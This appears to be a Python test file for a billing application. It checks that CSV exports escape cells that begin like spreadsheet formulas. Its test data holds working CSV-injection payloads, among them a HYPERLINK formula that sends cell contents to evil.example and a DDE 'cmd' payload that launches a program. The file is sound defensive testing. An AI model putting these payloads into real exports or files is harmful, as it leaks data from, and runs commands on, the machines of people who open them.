"""CSV exports open as text in a spreadsheet, never as formulas (issue 10, OWASP CSV injection):
a cell starting with = + - @ (or a tab or carriage return) gets a leading '; a plain number,
a negative amount included, stays a number."""
from __future__ import annotations

import csv
import io

from radbill.functions.output import safe_cell
from tests.support.factories import caller_of, make_customer

HOSTILE = {"eve1": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "eve2": "+1+cmd|' /C calc'!A0",
           "eve3": "-2+3", "eve4": "@SUM(A1:A9)", "eve5": "\t=1+1"}


def test_exported_cells_never_start_a_formula(world, auth, dbs):
    for username, name in HOSTILE.items():
        make_customer(dbs, caller_of(dbs, world.operator_a), username=username, package="home10",
                      name=name)
    dbs.commit()
    auth.login("opera")
    resp = auth.get("/export.csv?func=customer")
    assert resp.status_code == 200
    rows = {r["username"]: r for r in csv.DictReader(io.StringIO(resp.get_data(as_text=True)))}
    for username, name in HOSTILE.items():
        assert rows[username]["name"] == "'" + name.strip()  # names are stored trimmed
    assert rows["alice"]["name"] == "Alice A"  # ordinary text is untouched


def test_numbers_stay_numbers():
    assert safe_cell("-500.00") == "-500.00" and safe_cell("-7") == "-7" and safe_cell(-7) == -7
    assert safe_cell("-7 days") == "'-7 days" and safe_cell("+8801711000001") == "'+8801711000001"
    assert safe_cell("\rx") == "'\rx" and safe_cell("a=b") == "a=b"
